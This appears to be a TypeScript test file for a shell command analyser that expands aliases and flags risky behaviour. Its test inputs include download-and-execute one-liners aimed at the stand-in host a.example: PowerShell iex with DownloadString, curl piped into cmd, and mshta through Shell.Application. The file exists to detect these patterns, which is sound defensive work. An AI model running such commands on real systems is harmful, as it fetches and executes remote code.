import assert from 'node:assert/strict'
import { test } from 'node:test'
import { withoutAliases } from './aliases.ts'
import { analyseCommand } from './analyse.ts'

test('a name that stands for another is read as the other', () => {
  assert.equal(withoutAliases('sal a iex; a (x)'), 'sal a iex; iex (x)')
  assert.equal(withoutAliases('alias g=curl; g -s x'), 'alias g=curl; curl -s x')
  assert.equal(withoutAliases('a (x)'), 'a (x)')
})

test('what an alias hides is seen', () => {
  const does = (text: string): readonly string[] => analyseCommand(text).does
  assert.ok(does(`powershell -c "sal a iex; a (New-Object Net.WebClient).DownloadString('https://a.example')"`).includes('fetch-execute'))
  assert.ok(does('cmd /c "curl -s a.example/t|more|cmd"').includes('fetch-execute'))
  assert.ok(does('hdiutil attach https://a.example/Meet.dmg').includes('odd-fetch'))
  assert.ok(does(`(New-Object -ComObject Shell.Application).ShellExecute('mshta','https://a.example/i')`).includes('proxy-execution'))
  assert.deepEqual(does('msiexec /i C:\\temp\\package.msi /qn /l*v install.log'), [])
})
